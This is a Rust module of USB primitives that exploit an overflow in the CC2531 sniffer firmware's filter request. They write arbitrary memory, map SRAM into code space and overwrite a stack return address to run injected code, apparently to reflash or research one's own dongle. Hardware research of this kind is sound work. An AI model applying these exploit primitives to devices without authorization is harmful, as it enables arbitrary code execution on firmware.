//! USB primitives for injecting code into the CC2531 sniffer firmware.

use crate::{
    addr::PhysAddr,
    layout::{layout_for, AddressSpace, MemLayout},
    regs::{MEMCTR, MEMCTR_XMAP, XDATA_SFR_BASE},
    Error, Result,
};
use rusb::{Device, DeviceHandle, DeviceList, Direction, GlobalContext, Recipient, RequestType};
use std::{fmt, time::Duration};

/// Texas Instruments.
const SNIFFER_VID: u16 = 0x0451;
/// CC2531 USB dongle with the packet sniffer firmware.
const SNIFFER_PID: u16 = 0x16ae;

/// Vendor request, host to device.
const REQUEST_TYPE: u8 = 0x40;
/// The sniffer's request that takes filter parameters.
const REQUEST_SET_FILTER: u8 = 0xd2;

const WRITE_TIMEOUT: Duration = Duration::from_millis(1000);

const REQUEST_GET_DESCRIPTOR: u8 = 0x06;
const DESCRIPTOR_TYPE_DEVICE: u16 = 0x01;
const DEVICE_DESCRIPTOR_LEN: usize = 18;

/// Pulls `bcdDevice` out of a raw device descriptor.
pub fn parse_bcd_device(descriptor: &[u8]) -> Option<u16> {
    match descriptor.get(12..14) {
        Some(&[lo, hi]) => Some(u16::from_le_bytes([lo, hi])),
        _ => None,
    }
}

/// Reads `bcdDevice` straight from the device.
///
/// The firmware revision is told apart by this field, so it is not taken
/// from the decoded [`rusb::Version`]: that folds the top two nibbles into a
/// decimal major number and cannot tell `0x8391` from `0x7d91`.
fn read_bcd_device(device: &DeviceHandle<GlobalContext>) -> Result<u16> {
    let mut raw = [0; DEVICE_DESCRIPTOR_LEN];
    let read = device.read_control(
        rusb::request_type(Direction::In, RequestType::Standard, Recipient::Device),
        REQUEST_GET_DESCRIPTOR,
        DESCRIPTOR_TYPE_DEVICE << 8,
        0,
        &mut raw,
        WRITE_TIMEOUT,
    )?;
    parse_bcd_device(&raw[..read]).ok_or(Error::ShortTransfer {
        len: read,
        expected: DEVICE_DESCRIPTOR_LEN,
    })
}

/// Fails unless a transfer moved all `expected` bytes.
fn check_transfer(len: usize, expected: usize) -> Result<()> {
    if len == expected {
        Ok(())
    } else {
        Err(Error::ShortTransfer { len, expected })
    }
}

/// A CC2531 running the stock sniffer firmware.
pub struct Dongle {
    /// The underlying USB handle.
    device: DeviceHandle<GlobalContext>,
    /// Layout of the firmware revision on this dongle.
    layout: &'static MemLayout,
    bcd_device: u16,
}

impl Dongle {
    /// Resets and configures the dongle. Fails for firmware revisions
    /// without a known memory layout.
    pub fn new(mut device: DeviceHandle<GlobalContext>) -> Result<Self> {
        let bcd_device = read_bcd_device(&device)?;
        let layout = layout_for(bcd_device)?;

        device.reset()?;
        device.set_active_configuration(1)?;

        Ok(Dongle {
            device,
            layout,
            bcd_device,
        })
    }

    /// Returns the underlying device information used for this DeviceHandle.
    pub fn get_device(&self) -> Device<GlobalContext> {
        self.device.device()
    }

    pub fn bcd_device(&self) -> u16 {
        self.bcd_device
    }

    pub fn layout(&self) -> &'static MemLayout {
        self.layout
    }

    /// Uses the overflow to write `data` to `addr` in `space`. A transfer the
    /// device cuts short is an error, the write did not happen as a whole.
    pub fn write(&self, addr: u16, data: &[u8], space: AddressSpace) -> Result<()> {
        let request = self.layout.construct_request(addr, data, space)?;
        let written = self.device.write_control(
            REQUEST_TYPE,
            REQUEST_SET_FILTER,
            0,
            0,
            &request,
            WRITE_TIMEOUT,
        )?;
        check_transfer(written, request.len())
    }

    /// Copies an image into SRAM at `addr`.
    pub fn upload(&self, addr: PhysAddr, image: &[u8]) -> Result<()> {
        self.write(addr.to_data_space(), image, AddressSpace::Xdata)
    }

    /// Maps SRAM into code space at `0x8000`. `MEMCTR` is reachable through
    /// its XDATA mirror.
    pub fn enable_xmap(&self) -> Result<()> {
        self.write(
            XDATA_SFR_BASE + MEMCTR as u16,
            &[MEMCTR_XMAP],
            AddressSpace::Xdata,
        )
    }

    /// Replaces a return address on the stack, so the firmware jumps to
    /// `entry` the next time it returns through it.
    ///
    /// NOTE: once the stub runs the dongle drops off the bus, so this write
    /// may well fail on the host side even though it took effect.
    pub fn overwrite_return_address(&self, entry: PhysAddr) -> Result<()> {
        let ret = entry.to_code_space().to_le_bytes();
        self.write(self.layout.stack_ret as u16, &ret, AddressSpace::Idata)
    }
}

/// Attempts to find a CC2531 with the sniffer firmware and opens a handle to
/// it.
pub fn get_sniffer_device(
    vid: Option<u16>,
    pid: Option<u16>,
) -> rusb::Result<DeviceHandle<GlobalContext>> {
    let vid = vid.unwrap_or(SNIFFER_VID);
    let pid = pid.unwrap_or(SNIFFER_PID);

    let device_list = DeviceList::new()?;

    for device in device_list.iter() {
        let descriptor = device.device_descriptor()?;

        if descriptor.product_id() == pid && descriptor.vendor_id() == vid {
            let device_handle = device.open()?;
            return Ok(device_handle);
        }
    }

    Err(rusb::Error::NoDevice)
}

/// Where a device sits on the bus: its bus and the hub ports leading to it.
/// Survives re-enumeration, unlike the device address.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Port {
    pub bus: u8,
    pub path: Vec<u8>,
}

impl Port {
    pub fn of(device: &Device<GlobalContext>) -> Result<Self> {
        Ok(Port {
            bus: device.bus_number(),
            path: device.port_numbers()?,
        })
    }

    fn matches(&self, device: &Device<GlobalContext>) -> bool {
        match Port::of(device) {
            Ok(port) => port == *self,
            Err(_) => false,
        }
    }
}

impl fmt::Display for Port {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "bus {} port ", self.bus)?;
        for (i, port) in self.path.iter().enumerate() {
            if i > 0 {
                f.write_str(".")?;
            }
            write!(f, "{}", port)?;
        }
        Ok(())
    }
}

/// Opens and configures whatever is plugged into `port`.
///
/// Returns [`Error::NoDevice`] if the port is empty.
pub fn open_on_port(port: &Port) -> Result<DeviceHandle<GlobalContext>> {
    let device_list = DeviceList::new()?;
    let device = device_list
        .iter()
        .find(|device| port.matches(device))
        .ok_or(Error::NoDevice)?;

    let mut handle = device.open()?;
    handle.set_active_configuration(1)?;
    Ok(handle)
}
